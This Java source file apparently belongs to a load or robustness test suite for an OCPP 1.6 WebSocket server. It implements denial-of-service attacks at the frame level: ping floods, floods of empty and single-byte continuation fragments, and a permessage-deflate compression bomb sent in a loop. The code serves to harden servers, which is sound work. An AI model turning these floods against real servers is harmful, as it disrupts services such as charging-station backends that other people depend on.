package org.ohmstead.bench.siege;

import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.util.Arrays;
import java.util.zip.Deflater;

/** What RFC 6455 allows and nobody needs. */
final class FrameAttacks {
    private static final int PING = 0x89;
    private static final int TEXT_WITHOUT_END = 0x01;
    private static final int CONTINUATION = 0x00;
    private static final int COMPRESSED_TEXT = 0xC1;
    private static final int INFLATED = 12 << 20;

    private FrameAttacks() {}

    static void pings(Battlefield field) throws IOException {
        flood(field, "PINGS", many(PING, new byte[100], 500), new byte[0]);
    }

    static void emptyFragments(Battlefield field) throws IOException {
        flood(field, "EMPTY", many(CONTINUATION, new byte[0], 2_000), Stranger.framed(TEXT_WITHOUT_END, new byte[0]));
    }

    static void singleBytes(Battlefield field) throws IOException {
        flood(
                field,
                "BYTES",
                many(CONTINUATION, new byte[] {' '}, 2_000),
                Stranger.framed(TEXT_WITHOUT_END, new byte[0]));
    }

    /** RFC 7692: what compresses well, as large as a message may be. */
    static void bombs(Battlefield field) throws IOException {
        byte[] bomb = Stranger.framed(COMPRESSED_TEXT, deflated(new byte[INFLATED]));
        try (Stranger station = field.connect()) {
            station.upgrade(
                    "/ocpp/BOMBS",
                    "Sec-WebSocket-Protocol: ocpp1.6\r\nSec-WebSocket-Extensions: permessage-deflate\r\n");
            if (station.status().contains(" 101 ")) {
                while (field.goesOn()) {
                    station.raw(bomb);
                }
            }
        }
    }

    private static byte[] deflated(byte[] text) {
        try (Deflater deflater = new Deflater(Deflater.BEST_COMPRESSION, true)) {
            deflater.setInput(text);
            byte[] small = new byte[text.length / 100];
            int length = deflater.deflate(small, 0, small.length, Deflater.SYNC_FLUSH);
            return Arrays.copyOf(small, length - 4); // its end is left away, RFC 7692, 7.2.1
        }
    }

    private static byte[] many(int first, byte[] payload, int count) {
        ByteArrayOutputStream frames = new ByteArrayOutputStream();
        for (int i = 0; i < count; i++) {
            frames.writeBytes(Stranger.framed(first, payload));
        }
        return frames.toByteArray();
    }

    /** Until the server closes the link or reads no more. */
    private static void flood(Battlefield field, String identity, byte[] frames, byte[] before) throws IOException {
        try (Stranger station = field.connect()) {
            if (station.station(identity, "ocpp1.6")) {
                station.raw(before);
                while (field.goesOn()) {
                    station.raw(frames);
                }
            }
        }
    }
}
